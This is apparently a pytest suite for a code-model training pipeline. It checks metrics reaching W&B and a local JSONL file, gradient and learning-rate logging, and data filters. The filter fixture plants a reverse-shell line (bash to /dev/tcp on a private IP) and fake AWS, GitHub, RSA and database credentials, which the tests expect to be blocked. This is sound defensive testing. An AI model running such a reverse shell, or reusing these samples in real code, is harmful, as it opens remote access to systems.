"""Every phase's numbers reach W&B (offline, the real client) and the local JSON-lines file; nothing else does."""

from __future__ import annotations

import json
import logging
import math
import re
from pathlib import Path

import psycopg
import pytest
import torch
from conftest import TEST_PASSWORD, create_table, fresh_database, insert_stdlib_rows, load_settings, write_config
from wandb_reader import find_run_files, read_run

from codelupe_trainer.cli import main
from codelupe_trainer.state import load_state
from codelupe_trainer.training.flops import training_flops_per_token
from codelupe_trainer.training.schedule import learning_rate_factor
from codelupe_trainer.training.telemetry import gradient_statistics

pytestmark = pytest.mark.slow

SEED_KEYS = [
    "train/loss", "train/perplexity", "train/learning_rate", "train/epoch", "eval/loss", "eval/perplexity",
    "batch/loss", "batch/perplexity", "batch/size", "batch/grad_norm",
    "system/cpu_percent", "system/cpu_count", "system/memory_used_gb", "system/memory_available_gb",
    "system/memory_percent", "system/disk_used_gb", "system/disk_free_gb", "system/disk_percent",
    "data/total_samples", "data/avg_quality_score", "data/avg_code_length", "data/language_python",
    "data/language_python_percent", "data/blocked_malicious", "data/blocked_secrets", "data/blocked_license",
    "data/blocked_total", "data/pass_rate",
    "dataset/train_size", "dataset/eval_size", "dataset/total_size", "dataset/train_eval_ratio",
    "dataset/avg_tokens_per_sample", "dataset/max_tokens", "dataset/min_tokens",
    "performance/samples_per_second", "performance/tokens_per_second", "performance/batch_time_ms",
    "performance/data_loading_time_ms", "performance/forward_time_ms", "performance/backward_time_ms",
    "gradients/global_norm", "gradients/mean_norm", "gradients/max_norm", "gradients/min_norm",
    "weights/global_mean", "weights/global_std",
    "continuous/run_number", "continuous/total_runs", "continuous/last_trained_id",
    "continuous/total_samples_trained", "continuous/uptime_hours",
    "progress/step", "progress/step_percent", "progress/epoch", "progress/epoch_percent",
    "progress/eta_minutes", "progress/eta_hours",
    "code/avg_lines", "code/comments_percent", "code/docstrings_percent", "code/avg_complexity",
    "dataset/real_token_fraction", "data/blocked_duplicates",
]
CONFIG_KEYS = ["model/name", "model/total_params", "model/trainable_params", "model/trainable_percent", "model/lora_r",
               "model/lora_alpha", "hyperparams/batch_size", "hyperparams/learning_rate", "hyperparams/max_length"]

# Planted samples. The credentials are fake but shaped exactly like real ones.
BODY = "\n".join(f"def helper_{index}(value):\n    return value * {index} + 1\n" for index in range(6))
PLANTED = {
    "aws": ("secrets", f'import boto3\n\nAWS_ACCESS_KEY_ID = "AKIAIOSFODNN7EXAMPLQ"\n{BODY}'),
    "private_key": ("secrets", f'KEY = """\n-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7\n-----END RSA PRIVATE KEY-----\n"""\n{BODY}'),
    "pg_url": ("secrets", f'DATABASE = "postgresql://admin:Zx9vQ2mLp7Rt@db.example.com:5432/prod"\n{BODY}'),
    "github": ("secrets", f'GITHUB_TOKEN = "ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"\n{BODY}'),
    "gpl": ("license", f"# SPDX-License-Identifier: GPL-3.0-or-later\n# This program is free software.\n{BODY}"),
    "malicious": ("malicious", f'import os\nos.system("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")\n{BODY}'),
}
OTHER_LANGUAGES = ("C++", "C#", "Jupyter Notebook")
MIT_SAMPLE = f"# SPDX-License-Identifier: MIT\n# Copyright (c) 2024 Example\n{BODY}\nclass MitLicensedThing:\n    pass\n"


def insert_planted(url: str, contents: list[str]) -> None:
    with psycopg.connect(url, autocommit=True) as connection:
        for index, content in enumerate(contents):
            connection.execute(
                "INSERT INTO processed_files (relative_path, content, language, lines, size, hash, repo_name, quality_score)"
                " VALUES (%s, %s, 'python', %s, %s, %s, 'planted', 80)",
                (f"planted_{index}.py", content, content.count("\n"), len(content), f"planted-{index}-{hash(content)}"),
            )


class CapturedLogs(logging.Handler):
    """The log records of the fixture's run, for the tests that share it (caplog is per test)."""

    def __init__(self):
        super().__init__(logging.INFO)
        self.records: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)

    @property
    def text(self) -> str:
        return "\n".join(record.getMessage() for record in self.records)


@pytest.fixture(scope="module")
def trained_run(server_url, tiny_model, tmp_path_factory):
    """One production-shaped run, read back by every test below (training it for each took ~8 s a test)."""
    directory = tmp_path_factory.mktemp("trained-run")
    with fresh_database(server_url) as crawler_table, pytest.MonkeyPatch.context() as patch:
        with psycopg.connect(crawler_table, autocommit=True) as connection:
            create_table(connection)
        insert_stdlib_rows(crawler_table, start=0, count=100)
        with psycopg.connect(crawler_table) as connection:
            duplicated = connection.execute("SELECT content FROM processed_files WHERE quality_score = 70 AND char_length(content) < 8000 ORDER BY id LIMIT 1").fetchone()[0]
        # The same file again, differing only in trailing whitespace: a duplicate after normalisation.
        insert_planted(crawler_table, [content for _, content in PLANTED.values()] + [MIT_SAMPLE, duplicated + "   \n\n"])
        # Three clean files labelled as a crawler labels C++, C# and notebooks.
        with psycopg.connect(crawler_table, autocommit=True) as connection:
            for language, offset in zip(OTHER_LANGUAGES, range(3)):
                connection.execute("UPDATE processed_files SET language = %s WHERE id = (SELECT id FROM processed_files"
                                   " WHERE quality_score >= 70 AND char_length(content) BETWEEN 200 AND 8000 AND repo_name <> 'planted'"
                                   " ORDER BY id OFFSET %s LIMIT 1)", (language, 10 + offset))
        # The production shape: accumulation 4, gradient checkpointing, an eval split; by epochs (no step budget),
        # so the planted rows at the end are in this run; a small max_grad_norm so that clipping really happens.
        config = write_config(directory, tiny_model, extra=(
            "[training]\nbatch_size = 4\ngradient_accumulation_steps = 4\nlearning_rate = 5e-3\nmax_steps = -1\n"
            "logging_steps = 2\ngradient_checkpointing = true\nmax_grad_norm = 0.05\n"
            # A peak for this CPU, so that the MFU path runs here as it does on a known CUDA card.
            "[metrics]\nsystem_every_steps = 2\ngradient_metrics_every_steps = 2\nper_layer_sample = 4\ngpu_peak_tflops = 1.0\n"
        ))
        patch.setenv("CODELUPE_DATABASE__URL", crawler_table)
        settings = load_settings(config)
        logs = CapturedLogs()
        logging.getLogger().addHandler(logs)
        try:
            assert main(["run-once", "--config", str(config)]) == 0
        finally:
            logging.getLogger().removeHandler(logs)
            patch.undo()  # the tests after it set their own database
        [run_file] = find_run_files(directory)
        yield settings, run_file, read_run(run_file), logs


def test_batch_metrics_are_on_the_scale_of_the_training_loss_under_accumulation(trained_run):
    """With accumulation 4, the value the Trainer returns per micro-batch is a quarter of the loss; batch/loss
    is the optimizer step's loss, the same quantity train/loss averages over the logging window."""
    settings, _, run, _ = trained_run
    assert settings.training.gradient_accumulation_steps == 4
    pairs = [(row["batch/loss"], row["train/loss"]) for row in run.history if "batch/loss" in row and "train/loss" in row]
    assert len(pairs) >= 3
    for batch_loss, train_loss in pairs:
        assert 0.7 * train_loss < batch_loss < 1.3 * train_loss


def test_performance_windows_count_only_the_steps_they_span(trained_run):
    settings, _, run, _ = trained_run
    ceiling = settings.training.batch_size * settings.training.gradient_accumulation_steps * settings.data.max_length
    per_step = [value for _, value in run.values("performance/tokens_per_step")]
    assert per_step and all(0 < value <= ceiling for value in per_step)
    # The whole run's rate counts trained tokens only: below what all dataset tokens (eval included) would give.
    [final] = [row for row in run.history if "performance/run_tokens_per_second" in row]
    [dataset_row] = [row for row in run.history if "dataset/total_tokens" in row]
    assert final["performance/run_tokens_per_second"] * final["performance/run_train_seconds"] < dataset_row["dataset/total_tokens"]


def test_model_flops_and_mfu_follow_the_token_rate(trained_run):
    """performance/model_tflops is 4N x tokens/s for the model trained (N: its matmul parameters, counted once
    whatever wraps them), and performance/mfu_percent that over the configured peak."""
    settings, _, run, _ = trained_run
    config = json.loads((Path(settings.model.base_model) / "config.json").read_text())
    flops_per_token = training_flops_per_token(config)
    rows = [row for row in run.history if "performance/tokens_per_second" in row]
    assert len(rows) >= 3
    for row in rows:
        expected_tflops = row["performance/tokens_per_second"] * flops_per_token / 1e12
        assert row["performance/model_tflops"] == pytest.approx(expected_tflops, rel=1e-6)
        assert row["performance/mfu_percent"] == pytest.approx(100 * expected_tflops / 1.0, rel=1e-6)
        assert 0 < row["performance/mfu_percent"] < 100  # two CPU cores do not reach a TFLOP/s


def test_gradient_norms_are_read_before_clipping(trained_run):
    """The Trainer's grad_norm is the norm before clipping; ours must match it, not the clipped 0.05."""
    settings, _, run, _ = trained_run
    both = [(row["gradients/global_norm"], row["batch/grad_norm"]) for row in run.history
            if "gradients/global_norm" in row and "batch/grad_norm" in row]
    assert both
    assert any(ours > 2 * settings.training.max_grad_norm for ours, _ in both)
    for ours, trainers in both:
        assert ours == pytest.approx(trainers, rel=1e-3)


def test_each_logged_learning_rate_is_the_one_its_step_trained_with(trained_run):
    """The schedule warms up linearly from lr / (warmup + 1), never from 0 (transformers' linear schedule ran
    each cycle's first step at 0), and train/learning_rate at step s is the rate step s trained with."""
    settings, _, run, _ = trained_run
    rows = [row for row in run.history if "train/learning_rate" in row]
    total = int(rows[0]["progress/total_steps"])
    warmup = math.ceil(total * settings.training.warmup_ratio)
    assert settings.training.warmup_ratio == 0.03 and warmup == 1 and total >= 5
    assert [row["_step"] for row in rows][:2] == [1, 2]
    for row in rows:
        expected = settings.training.learning_rate * learning_rate_factor(row["_step"] - 1, warmup, total)
        assert row["train/learning_rate"] == pytest.approx(expected, rel=1e-6), row["_step"]
    assert rows[0]["train/learning_rate"] == pytest.approx(settings.training.learning_rate / 2)


def test_every_seed_metric_is_in_the_wandb_run(trained_run):
    settings, run_file, run, caplog = trained_run
    missing = [key for key in SEED_KEYS if key not in run.keys()]
    assert not missing, missing
    assert run.run["name"] == "run-1" and run.run["group"] == "codelupe-continuous"

    for row in run.history:
        for loss_key, perplexity_key in (("train/loss", "train/perplexity"), ("eval/loss", "eval/perplexity"), ("batch/loss", "batch/perplexity")):
            if loss_key in row:
                assert math.isfinite(row[loss_key])
                assert row[perplexity_key] == pytest.approx(math.exp(row[loss_key]), rel=1e-9)
    for key in ("progress/step_percent", "progress/epoch_percent", "system/cpu_percent", "system/memory_percent", "data/pass_rate"):
        assert all(0 <= value <= 100 for _, value in run.values(key)), key
    assert run.values("progress/step_percent")[-1][1] == 100
    etas = [value for _, value in run.values("progress/eta_minutes")]
    # An estimate from measured step times (it may rise when a step is slower than the ones before): positive
    # until the last step, zero there, and falling over the run.
    assert all(value > 0 for value in etas[:-1]) and etas[-1] == 0 and etas[0] > etas[len(etas) // 2]
    steps = [row["_step"] for row in run.history]
    assert steps == sorted(steps)

    for key in ("gradients/global_norm", "gradients/mean_norm", "gradients/max_norm"):
        assert all(value > 0 for _, value in run.values(key)), key
    # lora_A's gradient is exactly zero while lora_B is still at its zero initialisation.
    assert all(value >= 0 for _, value in run.values("gradients/min_norm"))
    for (_, global_norm), (_, largest), (_, smallest) in zip(run.values("gradients/global_norm"), run.values("gradients/max_norm"), run.values("gradients/min_norm")):
        assert global_norm >= largest >= smallest
    per_layer = [key for key in run.keys() if key.startswith("gradients/layers.")]
    assert 0 < len(per_layer) <= settings.metrics.per_layer_sample

    assert all(run.config.get(key) is not None for key in CONFIG_KEYS), [key for key in CONFIG_KEYS if key not in run.config]
    assert run.config["model/trainable_params"] > 0
    assert run.config["hyperparams/max_length"] == settings.data.max_length

    state = load_state(settings.paths.state_file)
    final = run.history[-1]
    assert final["continuous/last_trained_id"] == state.last_trained_id
    assert final["continuous/total_samples_trained"] == state.total_samples_trained
    assert "less than the current step" not in caplog.text and "step must be monotonically" not in caplog.text


def test_filters_block_planted_samples_and_the_counts_reach_wandb(trained_run):
    settings, run_file, run, _ = trained_run
    [data_row] = [row for row in run.history if "data/blocked_total" in row]
    assert data_row["data/blocked_secrets"] == 4
    assert data_row["data/blocked_license"] == 1
    assert data_row["data/blocked_malicious"] == 1
    assert data_row["data/blocked_duplicates"] == 1
    assert data_row["data/blocked_total"] == 7
    assert data_row["data/blocked_secrets_python"] == 4
    passed = data_row["data/language_python"]
    assert data_row["data/language_python_pass_rate"] == pytest.approx(100 * passed / (passed + 7))
    assert data_row["data/skipped_total"] == sum(load_state(settings.paths.state_file).last_run["skipped"].values()) > 0
    state = load_state(settings.paths.state_file)
    assert state.last_run["blocked"] == {"secrets": 4, "license": 1, "malicious": 1, "duplicates": 1, "near_duplicates": 0}
    # The MIT-headed file and clean code passed: they are among the trained samples.
    assert data_row["data/total_samples"] == state.total_samples_trained + state.total_samples_held_out


def test_a_language_reaches_wandb_under_a_name_wandb_can_sort_and_filter(trained_run):
    # W&B sorts and filters only on letters, digits and underscores within a section: `data/language_c++`
    # is a key that cannot be charted next to the others, and c++ and c# must not share one.
    settings, run_file, run, _ = trained_run
    [data_row] = [row for row in run.history if "data/blocked_total" in row]
    for key in ("cpp", "csharp", "jupyter_notebook"):
        assert data_row[f"data/language_{key}"] == 1, key
        assert data_row[f"data/language_{key}_pass_rate"] == 100.0, key
    assert data_row["data/language_python"] + 3 == data_row["data/total_samples"]
    language_keys = [key for key in run.keys() if key.startswith(("data/language_", "data/blocked_", "holdout/"))]
    assert len(language_keys) > 10
    for key in language_keys:
        assert re.fullmatch(r"[a-z]+/[_a-zA-Z][_a-zA-Z0-9]*", key), key


def test_only_metrics_leave_the_machine(trained_run):
    settings, run_file, run, caplog = trained_run
    run_directory = run_file.parent
    files = [path for path in run_directory.rglob("*") if path.is_file()]
    assert not [path for path in files if path.parent.name == "files"], "no artifact or uploaded file"
    assert not any(path.suffix in (".safetensors", ".bin", ".pt", ".py", ".patch") for path in files)
    raw = b"".join(path.read_bytes() for path in files)
    for secret in (TEST_PASSWORD, "AKIAIOSFODNN7EXAMPLQ", "MitLicensedThing", "def helper_3(value)"):
        assert secret.encode() not in raw, secret
    assert "artifact" not in run.record_types and "files" not in run.record_types
    assert not any(isinstance(value, str) and "run-once" in value for value in run.config.values())
    # No path of this machine either: the model's directory, the state's, a user's home.
    for path in (settings.model.base_model, str(settings.paths.state_file.parent), str(Path.home())):
        assert path.encode() not in raw, path


def test_jsonl_file_holds_the_same_numbers_as_wandb(trained_run):
    settings, run_file, run, _ = trained_run
    by_step: dict[int, dict] = {}
    for line in (settings.paths.state_file.parent / "metrics.jsonl").read_text().splitlines():
        record = json.loads(line)
        if "step" in record and "event" not in record:
            by_step.setdefault(record["step"], {}).update({key: value for key, value in record.items() if key not in ("run", "step", "time")})
    history = {row["_step"]: row for row in run.history}
    assert set(by_step) == set(history)
    for step, values in by_step.items():
        for key, value in values.items():
            assert history[step][key] == pytest.approx(value, nan_ok=True), (step, key)


def test_gradient_statistics_match_an_independent_norm(tiny_model):
    from peft import LoraConfig, get_peft_model
    from transformers import AutoModelForCausalLM

    model = get_peft_model(AutoModelForCausalLM.from_pretrained(tiny_model),
                           LoraConfig(r=4, lora_alpha=8, target_modules=["q_proj", "v_proj"], init_lora_weights="gaussian"))
    tokens = torch.randint(0, 500, (2, 32))
    model(input_ids=tokens, labels=tokens).loss.backward()
    trainable = [(name, parameter) for name, parameter in model.named_parameters() if parameter.requires_grad]
    chosen = trainable[3][0]
    metrics = gradient_statistics(trainable, {chosen})
    expected = torch.linalg.vector_norm(dict(trainable)[chosen].grad).item()
    [layer_key] = [key for key in metrics if key.startswith("gradients/layers.")]
    assert metrics[layer_key] == pytest.approx(expected, rel=1e-5)
    everything = torch.sqrt(sum(parameter.grad.pow(2).sum() for _, parameter in trainable)).item()
    assert metrics["gradients/global_norm"] == pytest.approx(everything, rel=1e-5)


def test_online_without_api_key_falls_back_to_offline(crawler_table, make_settings, tmp_path, caplog):
    insert_stdlib_rows(crawler_table, start=0, count=40)
    settings = make_settings(crawler_table, extra=f'[wandb]\nmode = "online"\ndir = "{tmp_path}"\n')
    caplog.set_level(logging.WARNING)
    assert main(["run-once", "--config", str(tmp_path / "codelupe.toml")]) == 0
    assert "no API key" in caplog.text
    [run_file] = find_run_files(tmp_path)
    assert run_file.parent.name.startswith("offline-run-")
    assert "train/loss" in read_run(run_file).keys()
    assert load_state(settings.paths.state_file).total_training_runs == 1


def test_weight_statistics_match_torch(tiny_model):
    from peft import LoraConfig, get_peft_model
    from transformers import AutoModelForCausalLM

    from codelupe_trainer.training.telemetry import metric_name, weight_statistics

    model = get_peft_model(AutoModelForCausalLM.from_pretrained(tiny_model),
                           LoraConfig(r=4, target_modules=["q_proj", "v_proj"], init_lora_weights="gaussian"))
    trainable = [(name, parameter) for name, parameter in model.named_parameters() if parameter.requires_grad]
    chosen = trainable[1][0]
    metrics = weight_statistics(trainable, {chosen})
    everything = torch.cat([parameter.detach().flatten() for _, parameter in trainable])
    assert metrics["weights/global_mean"] == pytest.approx(everything.mean().item(), abs=1e-6)
    assert metrics["weights/global_std"] == pytest.approx(everything.std().item(), rel=1e-4)
    layer = dict(trainable)[chosen].detach()
    assert metrics[f"weights/{metric_name(chosen)}/mean"] == pytest.approx(layer.mean().item(), abs=1e-6)
    assert metrics[f"weights/{metric_name(chosen)}/std"] == pytest.approx(layer.std().item(), rel=1e-4)


def test_steps_never_go_backwards(tmp_path):
    from codelupe_trainer.metrics import MetricsRun, WandbOptions

    run = MetricsRun(7, tmp_path / "metrics.jsonl", WandbOptions("offline", "p", None, "g", tmp_path, 60, 60), {})
    run.log(5, {"a/x": 1.0})
    run.log(3, {"a/y": 2.0})  # a late report is filed under the current step, not an older one
    run.finish(0)
    [run_file] = find_run_files(tmp_path)
    assert [row["_step"] for row in read_run(run_file).history] == [5]
    steps = [json.loads(line).get("step") for line in (tmp_path / "metrics.jsonl").read_text().splitlines()]
    assert [step for step in steps if step is not None] == [5, 5]
    debug_logs = "".join(path.read_text(errors="replace") for path in run_file.parent.glob("logs/*.log"))
    assert "less than the current step" not in debug_logs


FULL_METRICS_FILE = """
import json, logging, resource, signal, sys
from pathlib import Path
from codelupe_trainer.metrics import MetricsRun, WandbOptions

directory = Path(sys.argv[1])
records = []
logging.basicConfig(level=logging.INFO, handlers=[type("Keep", (logging.Handler,), {"emit": lambda self, r: records.append(r.getMessage())})()])
run = MetricsRun(3, directory / "metrics.jsonl", WandbOptions("offline", "p", None, "g", directory, 60, 60), {})
# The file may grow no further (RLIMIT_FSIZE: every write fails with EFBIG, as a full disk fails with ENOSPC);
# set after W&B's own process started, so only this process's files are capped.
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
limit = resource.getrlimit(resource.RLIMIT_FSIZE)
resource.setrlimit(resource.RLIMIT_FSIZE, ((directory / "metrics.jsonl").stat().st_size, limit[1]))
for step in range(1, 41):
    run.log(step, {"train/loss": 1.0 / step})
resource.setrlimit(resource.RLIMIT_FSIZE, limit)
run.log(41, {"train/loss": 0.5})
run.finish(0)
print(json.dumps(records))
"""


def test_a_metrics_file_that_cannot_be_written_is_said_once_and_the_run_still_reaches_wandb(tmp_path):
    """A disk that fills during a long run fails every write of the local metrics file: one warning (not one
    per metric), one line when it recovers, the W&B run keeps every step, and closing never raises."""
    import subprocess
    import sys

    done = subprocess.run([sys.executable, "-c", FULL_METRICS_FILE, str(tmp_path)], capture_output=True, text=True,
                          timeout=300)
    assert done.returncode == 0, done.stderr[-2000:]
    messages = json.loads(done.stdout.strip().splitlines()[-1])
    failed = [message for message in messages if "could not write the metrics file" in message]
    assert len(failed) == 1 and "said once until it works again" in failed[0], messages
    assert sum("is written again" in message for message in messages) == 1
    [run_file] = find_run_files(tmp_path)
    assert [row["_step"] for row in read_run(run_file).history] == list(range(1, 42))
    lines = (tmp_path / "metrics.jsonl").read_text().splitlines()
    assert json.loads(lines[-1])["event"] == "finish"


def test_unreachable_wandb_server_degrades_to_the_local_file(crawler_table, make_settings, tmp_path, monkeypatch, caplog):
    api_key = "0123456789abcdef0123456789abcdef01234567"
    monkeypatch.setenv("WANDB_API_KEY", api_key)
    monkeypatch.setenv("WANDB_BASE_URL", "http://127.0.0.1:9")  # nothing listens there
    insert_stdlib_rows(crawler_table, start=0, count=40)
    settings = make_settings(crawler_table, extra=f'[wandb]\nmode = "online"\ndir = "{tmp_path}"\ninit_timeout_s = 5\nfinish_timeout_s = 5\n')
    caplog.set_level(logging.INFO)
    assert main(["run-once", "--config", str(tmp_path / "codelupe.toml")]) == 0
    assert "W&B could not start" in caplog.text
    assert api_key not in caplog.text
    state = load_state(settings.paths.state_file)
    assert state.total_training_runs == 1
    records = [json.loads(line) for line in (tmp_path / "metrics.jsonl").read_text().splitlines()]
    assert any("train/loss" in record for record in records)
    assert records[0]["wandb_mode"] == "disabled"


def stand_in_wandb_server(status: int, answer: dict):
    """A local HTTP server in the W&B server's place (none is reachable from the tests) giving every request
    the same JSON answer; returns it (serving) and the list of paths it was asked for."""
    import http.server
    import threading

    paths: list[str] = []

    class Answering(http.server.BaseHTTPRequestHandler):
        def _answer(self):
            paths.append(self.path)
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            body = json.dumps(answer).encode()
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_GET = do_POST = do_PUT = _answer

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Answering)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, paths


def test_doctor_says_whether_the_wandb_server_accepts_the_api_key(crawler_table, make_settings, tmp_path, monkeypatch,
                                                                  capsys):
    """`doctor` said `ok wandb: mode online` for any key: a mistyped or revoked WANDB_API_KEY showed only as
    one warning per cycle while no run reached W&B. It now asks the server (as the client does) and tells a
    refused key from an unreachable server, never printing the key."""
    api_key = "0123456789abcdef0123456789abcdef01234567"
    monkeypatch.setenv("WANDB_API_KEY", api_key)
    make_settings(crawler_table, f'[wandb]\nmode = "online"\ndir = "{tmp_path}"\ninit_timeout_s = 5\n')
    config = str(tmp_path / "codelupe.toml")
    for status, answer, verdict, said in [
        (401, {"errors": [{"message": "user is not logged in"}]}, "warn", "refused the API key (HTTP 401): put the key"),
        (200, {"data": {"viewer": None}}, "warn", "refused the API key: put the key"),
        (200, {"data": {"viewer": {"id": "VXNlcjox"}}}, "ok  ", "accepts the API key"),
    ]:
        server, paths = stand_in_wandb_server(status, answer)
        url = f"http://127.0.0.1:{server.server_port}"
        monkeypatch.setenv("WANDB_BASE_URL", url)
        try:
            main(["doctor", "--config", config])
        finally:
            server.shutdown()
        output = capsys.readouterr().out
        [line] = [line for line in output.splitlines() if "wandb:" in line]
        assert line.startswith(f"{verdict} wandb: mode online; the W&B server ({url}) {said}"), line
        assert paths == ["/graphql"] and api_key not in output
    monkeypatch.setenv("WANDB_BASE_URL", "http://127.0.0.1:9")  # nothing listens there
    main(["doctor", "--config", config])
    [line] = [line for line in capsys.readouterr().out.splitlines() if "wandb:" in line]
    assert line.startswith("warn wandb: mode online; the W&B server (http://127.0.0.1:9) cannot be reached ("), line


def test_a_key_in_netrc_counts_for_its_server_only(tmp_path, monkeypatch):
    """`wandb login` keeps the key in ~/.netrc under the server's host: online mode stays online with it, and
    falls back to offline (said once) when WANDB_BASE_URL names a server the file holds no key for."""
    from codelupe_trainer.metrics import effective_wandb_mode, wandb_api_key

    netrc = tmp_path / "netrc"
    netrc.write_text("machine api.wandb.ai\n  login user\n  password 0123456789abcdef0123456789abcdef01234567\n")
    monkeypatch.setenv("NETRC", str(netrc))
    monkeypatch.delenv("WANDB_API_KEY", raising=False)
    monkeypatch.delenv("WANDB_BASE_URL", raising=False)
    assert wandb_api_key() == "0123456789abcdef0123456789abcdef01234567"
    assert effective_wandb_mode("online", True) == "online"
    monkeypatch.setenv("WANDB_BASE_URL", "https://wandb.example.com")
    assert wandb_api_key() is None
    assert effective_wandb_mode("online", True, warn=False) == "offline"


@pytest.mark.slow
def test_wandbs_own_error_reporting_never_reaches_the_server(crawler_table, tiny_model, tmp_path):
    """wandb 0.2x/0.3x reports its own errors and log records (with the machine's host name) to the W&B server
    through an OpenTelemetry proxy, on by default. Only metrics leave this machine: against a stand-in
    server that refuses the key, `run-once` asks it to start a run and sends nothing to /sdk/otel/*, and no
    ERROR from a telemetry exporter follows the run's summary."""
    import os
    import subprocess
    import sys

    from conftest import write_config

    server, paths = stand_in_wandb_server(401, {"errors": [{"message": "user is not logged in"}]})
    insert_stdlib_rows(crawler_table, start=0, count=30)
    config = write_config(tmp_path, tiny_model, f'[wandb]\nmode = "online"\ndir = "{tmp_path}"\ninit_timeout_s = 20\n')
    env = {key: value for key, value in os.environ.items() if not key.startswith(("CODELUPE_", "PYTEST", "WANDB_"))}
    env.update(CODELUPE_DATABASE__URL=crawler_table, WANDB_BASE_URL=f"http://127.0.0.1:{server.server_port}",
               WANDB_API_KEY="0123456789abcdef0123456789abcdef01234567",
               PYTHONPATH=str(Path(__file__).resolve().parent.parent))
    try:
        once = subprocess.run([sys.executable, "-m", "codelupe_trainer.cli", "run-once", "--config", str(config)],
                              env=env, capture_output=True, text=True, timeout=300)
    finally:
        server.shutdown()
    assert once.returncode == 0, once.stderr
    assert "W&B could not start" in once.stderr, once.stderr
    assert paths, "the stand-in W&B server was never asked: the test would prove nothing"
    assert not [path for path in paths if path.startswith("/sdk/otel")], paths
    assert "opentelemetry" not in once.stderr and "Loaded credentials" not in once.stderr, once.stderr


def test_finish_returns_when_the_wandb_backend_stalls(tmp_path):
    """A stalled wandb-core: each log call blocks, the bounded queue fills, and finish() must still return
    within its timeout (a blocking put of the stop marker used to wait forever, holding the trainer lock)."""
    import threading
    import time

    from codelupe_trainer.metrics import MetricsRun, WandbOptions

    run = MetricsRun(1, tmp_path / "metrics.jsonl", WandbOptions("offline", "p", None, "g", tmp_path, 60, 2), {},
                     queue_size=10)
    stalled = threading.Event()
    run.wandb_run.log = lambda *args, **kwargs: stalled.wait()  # the one stand-in: a backend that never answers
    for step in range(50):
        run.log(step, {"train/loss": 1.0})  # never blocks: overflow is dropped and counted
    started = time.monotonic()
    run.finish(0)
    assert time.monotonic() - started < 10
    assert run.dropped > 0
    records = [json.loads(line) for line in (tmp_path / "metrics.jsonl").read_text().splitlines()]
    assert sum("train/loss" in record for record in records) == 50  # the local file has every row
    assert records[-1]["event"] == "finish"
    stalled.set()


def test_a_cycle_shorter_than_the_logging_interval_still_reports_its_last_step(crawler_table, make_settings, tmp_path,
                                                                                caplog):
    """The shipped intervals (logging, system and gradient metrics every 10 steps) against the common production
    cycle: 1,000 new rows at accumulation 4 are ~6 optimizer steps. Only step 1 (the loss before the run had
    learned anything) was logged; the steps after the last multiple of 10 never were, nor (under 10 steps) any
    system, gradient or weight metric, and the journal's progress line never said the run reached its end."""
    caplog.set_level(logging.INFO)
    insert_stdlib_rows(crawler_table, start=0, count=40)
    settings = make_settings(crawler_table, extra=(
        "[training]\nbatch_size = 4\ngradient_accumulation_steps = 4\nlearning_rate = 5e-3\nmax_steps = 3\n"
        "gradient_checkpointing = true\n"
        "[metrics]\nper_layer_sample = 4\n"
    ))
    assert settings.training.logging_steps == settings.metrics.system_every_steps == 10
    assert settings.metrics.gradient_metrics_every_steps == 10
    assert main(["run-once", "--config", str(tmp_path / "codelupe.toml")]) == 0
    assert load_state(settings.paths.state_file).total_steps == 3
    [run_file] = find_run_files(tmp_path)
    run = read_run(run_file)
    assert [step for step, _ in run.values("progress/step")] == [1, 3]
    assert [value for _, value in run.values("progress/step_percent")] == [pytest.approx(100 / 3), 100]
    assert [step for step, _ in run.values("train/loss")] == [1, 3]
    # Step 1's window is that one step: the Trainer's loss over it and the step's own loss are the same number,
    # accumulation 4 or not.
    first = run.history[[row.get("progress/step") for row in run.history].index(1)]
    assert first["batch/loss"] == pytest.approx(first["train/loss"], rel=1e-5)
    # The last window's throughput counts its own two steps (one step's tokens at most 16 x 256).
    assert 0 < run.values("performance/tokens_per_step")[-1][1] <= 4 * 4 * settings.data.max_length
    for key in ("system/cpu_percent", "system/memory_used_gb", "gradients/global_norm", "weights/global_mean"):
        assert [step for step, _ in run.values(key)] == [3], key
    assert any("training: step 3/3" in record.getMessage() for record in caplog.records)


@pytest.mark.slow
@pytest.mark.parametrize("fault", ["killed", "stalled"])
def test_a_wandb_service_that_dies_or_stalls_mid_run_is_said_once_and_the_run_trains_to_its_end(
        crawler_table, tiny_model, tmp_path, fault):
    """wandb-core killed mid-run (the kernel's out-of-memory killer on a box loading a 7B, or a crash of its
    own): every later log call raised, so the journal got a warning per metrics call (four a step here,
    hundreds a cycle) and, at exit, a 40-line traceback from wandb's own teardown. Stalled (stopped) instead:
    the run finished and printed its summary, then its process never ended, waiting in wandb's exit hook (the
    daemon's stall watch would have ended it half an hour later). Either way one line says it; the run
    trains, is saved, reports every step to metrics.jsonl and ends, without a traceback."""
    import os
    import signal
    import subprocess
    import sys
    import time

    import psutil

    insert_stdlib_rows(crawler_table, start=0, count=40)
    config = write_config(tmp_path, tiny_model, (
        "[training]\nbatch_size = 2\ngradient_accumulation_steps = 4\nlearning_rate = 5e-3\nlogging_steps = 1\n"
        "gradient_checkpointing = true\n"
        "[metrics]\nsystem_every_steps = 1\ngradient_metrics_every_steps = 1\nper_layer_sample = 4\n"
        f'[wandb]\nmode = "offline"\ndir = "{tmp_path}"\ninit_timeout_s = 60\nfinish_timeout_s = 5\n'))
    resume, log = tmp_path / "resume", tmp_path / "run-once.log"
    env = {key: value for key, value in os.environ.items() if not key.startswith(("CODELUPE_", "PYTEST", "WANDB_"))}
    env.update(CODELUPE_DATABASE__URL=crawler_table, CODELUPE_FAULT=f"train:wait={resume}",
               PYTHONPATH=str(Path(__file__).resolve().parent.parent))
    with log.open("w") as output:
        once = subprocess.Popen([sys.executable, "-m", "codelupe_trainer.cli", "run-once", "--config", str(config)],
                                env=env, stdout=output, stderr=subprocess.STDOUT)
    services = []
    try:
        deadline = time.monotonic() + 180
        while "waiting at train" not in log.read_text() and once.poll() is None and time.monotonic() < deadline:
            time.sleep(0.2)
        services = [child for child in psutil.Process(once.pid).children(recursive=True)
                    if "wandb-core" in " ".join(child.cmdline())]
